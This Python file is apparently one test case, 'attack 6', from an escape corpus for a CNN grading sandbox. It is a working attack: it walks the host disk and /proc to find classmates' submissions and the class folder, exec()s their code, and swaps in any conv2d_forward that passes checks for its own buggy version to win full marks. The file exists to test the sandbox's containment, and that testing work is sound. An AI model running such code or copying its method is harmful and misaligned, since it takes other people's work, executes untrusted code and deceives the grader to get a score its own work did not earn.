"""Escape corpus, attack 6: running classmates' code found on disk.

What it attacks: the sandbox child can read the host's disk. The submission looks for
other students' code: the run folders of submissions being graded at the same time
(/tmp/cnngrade-run-*/), and the class folder itself, recognised as the folder that holds a
byte-identical copy of this file (searched from the grader's working folder, through
/proc/PPID/cwd, then by a bounded walk of /tmp and /home). It executes every classmate's
file it can read, keeps a ``conv2d_forward`` that agrees with its own on easy cases and
handles strides, and answers every call with it.

A successful attack: this submission gets 20/20 where its own (honest) code earns less.
Contained: no other submission's code is in the sandbox's view; the score is the honest
part's.
"""
import glob
import os
import time

REPORT = {}


def _walk(predicate, roots, seconds, max_entries=40000):
    end, seen, queue, hits, count = time.monotonic() + seconds, set(), [(r, 0) for r in roots], [], 0
    while queue and time.monotonic() < end and count < max_entries:
        top, depth = queue.pop(0)
        if top in seen or top.startswith(("/proc", "/sys", "/dev")):
            continue
        seen.add(top)
        try:
            entries = list(os.scandir(top))
        except OSError:
            continue
        for e in entries:
            count += 1
            try:
                if predicate(e):
                    hits.append(e.path)
                if e.is_dir(follow_symlinks=False) and depth < 5:
                    queue.append((e.path, depth + 1))
            except OSError:
                pass
    return hits


def _sources():
    here = os.path.dirname(os.path.realpath(__file__))
    me = os.path.basename(__file__)
    mine = open(__file__, "rb").read()
    found = []
    for path in glob.glob("/tmp/cnngrade-run-*/*.py"):  # graded right now, next to me
        if os.path.dirname(os.path.realpath(path)) != here:
            found.append(path)
    roots = []
    try:
        cwd = os.readlink(f"/proc/{os.getppid()}/cwd")
        roots += [cwd, os.path.dirname(cwd)]
    except OSError:
        pass

    def copy_of_me(e):
        return (e.name == me and os.path.dirname(os.path.realpath(e.path)) != here
                and e.is_file() and open(e.path, "rb").read() == mine)

    for copy in _walk(copy_of_me, roots + ["/tmp", "/home"], 2.0)[:1]:
        klass = os.path.dirname(copy)
        REPORT["class"] = klass
        for e in os.scandir(klass):
            if e.is_file() and e.name.endswith(".py") and e.name != me:
                found.append(e.path)
            elif e.is_dir() and os.path.isfile(os.path.join(e.path, "solution.py")):
                found.append(os.path.join(e.path, "solution.py"))
    texts = []
    for path in found:
        try:
            with open(path, encoding="utf-8") as fh:
                texts.append(fh.read())
        except Exception as exc:
            REPORT.setdefault("refused", []).append(type(exc).__name__)
    return texts


def _steal():
    import numpy as np
    rng = np.random.default_rng(0)
    x, w, b = rng.normal(size=(1, 2, 6, 6)), rng.normal(size=(2, 2, 3, 3)), rng.normal(size=2)
    for text in _sources():
        ns = {"__name__": "classmate"}
        try:
            exec(compile(text, "<classmate>", "exec"), ns)
            fn = ns["conv2d_forward"]
            if (np.allclose(fn(x, w, b, 1, 1), _honest_conv2d(x, w, b, 1, 1))
                    and fn(x, w, b, 2, 0).shape == (1, 2, 2, 2)):
                REPORT["stolen"] = True
                return fn
        except Exception:
            continue
    return None


# --- honest part: what this student really wrote (the test grades it alone) ---
import numpy as np


def _honest_conv2d(x, w, b, stride=1, padding=0):
    """Loops over output positions; forgets that the stride moves the window."""
    ph, pw = (padding, padding) if np.isscalar(padding) else (int(padding[0]), int(padding[1]))
    N, C, H, W = x.shape
    F, _, KH, KW = w.shape
    xp = np.pad(x, ((0, 0), (0, 0), (ph, ph), (pw, pw)))
    HO, WO = xp.shape[2] - KH + 1, xp.shape[3] - KW + 1
    out = np.empty((N, F, HO, WO))
    for i in range(HO):
        for j in range(WO):
            win = xp[:, :, i:i + KH, j:j + KW]
            out[:, :, i, j] = np.tensordot(win, w, axes=([1, 2, 3], [1, 2, 3]))
    return out + b[None, :, None, None]
# --- end honest part ---

try:
    STOLEN = _steal()
except BaseException as exc:
    STOLEN, REPORT["error"] = None, repr(exc)
print("cnngrade-escape report:", REPORT)


def conv2d_forward(x, w, b, stride=1, padding=0):
    if STOLEN is not None:
        return STOLEN(x, w, b, stride, padding)
    return _honest_conv2d(x, w, b, stride, padding)
